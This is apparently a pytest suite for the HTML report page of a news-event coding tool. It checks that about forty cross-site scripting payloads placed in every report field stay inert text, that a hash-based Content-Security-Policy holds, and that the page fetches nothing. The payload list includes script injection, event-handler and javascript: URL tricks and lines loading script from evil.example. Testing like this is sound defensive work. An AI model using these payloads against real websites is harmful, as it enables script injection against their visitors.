from __future__ import annotations

import base64
import hashlib
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from casusbelli.records import Document, Participant, Report
from casusbelli.views import page

PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</article><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "<!--<script>-->alert(1)", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<form action=javascript:alert(1)><input type=submit>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<video><source onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=//evil.example/>", "<style>@import'//evil.example'</style>",
    "<template><script>alert(1)</script></template>", "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='",
    "` onmouseover=alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "$style $script <b>", "javascript:alert(1)", "\u202e<script>alert(1)</script>",
]  # fmt: skip


class Reader(HTMLParser):
    """Tags and attributes as a browser would see them, and the text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []
        self.attributes = []
        self.ids = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self.ids += [value for name, value in attrs if name == "id"]

    def handle_data(self, data):
        self.text += data


def read(text):
    reader = Reader()
    reader.feed(text)
    return reader


def render(*reports):
    return "".join(page(reports))


def infected(report, payload):
    text = f"{payload} Arland attacked {payload} Boria. {payload}"
    document = replace(
        report.document,
        text=text,
        title=payload,
        publisher=payload,
        wire=payload,
        byline=(payload,),
        key=payload,
        url=payload,
    )
    party = Participant(payload, 0, len(payload), payload, payload, payload, payload, payload)
    mentions = tuple(replace(one, actors=(party,), recipients=(party,), modes=(payload,)) for one in report.mentions)
    return replace(report, document=document, mentions=mentions, ties=(replace(report.ties[0], subject=party),))


def test_there_are_forty_payloads():
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_a_report_becomes_markup(report, payload):
    clean, dirty = read(render(report)), read(render(infected(report, payload)))
    allowed = set(clean.tags)
    assert set(dirty.tags) <= allowed
    assert dirty.tags.count("script") == dirty.tags.count("style") == 1
    assert not [attribute for attribute in dirty.attributes if attribute[1].startswith("on") or attribute[1] == "style"]
    for _, name, value in dirty.attributes:
        if name in ("href", "src"):
            assert value.startswith(("#", "https://", "http://"))
    assert payload.replace("\x00", "") in dirty.text.replace("\x00", "")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_an_error_becomes_markup(payload):
    failed = Report(Document("", "", key=payload), error=payload)
    assert read(render(failed)).tags.count("script") == 1


def test_only_the_pages_own_style_and_script_may_run(report):
    text = render(report)
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', text).group(1).replace("&#x27;", "'")
    assert policy.startswith("default-src 'none'")
    for tag in ("style", "script"):
        content = re.search(f"<{tag}>(.*?)</{tag}>", text, re.DOTALL).group(1)
        digest = base64.b64encode(hashlib.sha256(content.encode()).digest()).decode()
        assert f"{tag}-src 'sha256-{digest}'" in policy


def test_the_page_fetches_nothing(report):
    reader = read(render(report))
    assert not {"img", "link", "iframe", "object", "embed", "audio", "video"} & set(reader.tags)
    assert not [value for tag, name, value in reader.attributes if name in ("src", "srcset")]
    assert "url(" not in render(report) and "@import" not in render(report)


def test_every_row_and_its_words_point_at_each_other(report):
    reader = read(render(report, report))
    assert len(set(reader.ids)) == len(reader.ids)
    targets = {value[1:] for tag, name, value in reader.attributes if name == "href" and value.startswith("#")}
    assert {"w1-1", "e1-1", "w1-2", "e1-2", "w2-1", "e2-1", "w2-2", "e2-2"} == targets
    assert targets <= set(reader.ids)


def test_every_kind_of_mark_in_use_is_in_the_legend(report):
    reader = read(render(report))
    legend = {
        value for tag, name, value in reader.attributes if tag == "li" and name == "class" and value.startswith("k-")
    }
    used = {
        kind
        for tag, name, value in reader.attributes
        if name == "class" and " k-" in value
        for kind in value.split()[1:]
    }
    assert used and used <= legend


def test_the_page_can_be_used_by_keyboard_and_screen_reader(report):
    text = render(report)
    reader = read(text)
    assert text.startswith('<!doctype html>\n<html lang="en">')
    rows = [value for tag, name, value in reader.attributes if tag == "li" and name == "tabindex"]
    assert rows == ["0", "0"]
    assert 'aria-live="polite"' in text and 'aria-labelledby="r1"' in text and "<main>" in text
    assert "prefers-reduced-motion" in text and "prefers-color-scheme: dark" in text and "@media print" in text


def test_the_text_on_the_page_is_the_text_of_the_report(report):
    body = re.search(r"<article[^>]*>(.*?)</article>", render(report), re.DOTALL).group(1)
    assert read(body).text == report.document.text


def test_types_can_be_filtered_only_where_there_are_several(report):
    two = replace(report, mentions=(report.mentions[0], replace(report.mentions[1], event_type="AID")))
    assert "<fieldset" not in render(report)
    assert 'value="AID"' in render(two)


def test_a_report_that_failed_says_why(report):
    failed = Report(Document("", "", key="x.pdf"), error="damaged")
    assert "Not coded: damaged" in render(report, failed)


def test_a_report_without_events_says_so(report):
    assert "No event found." in render(Report(report.document))
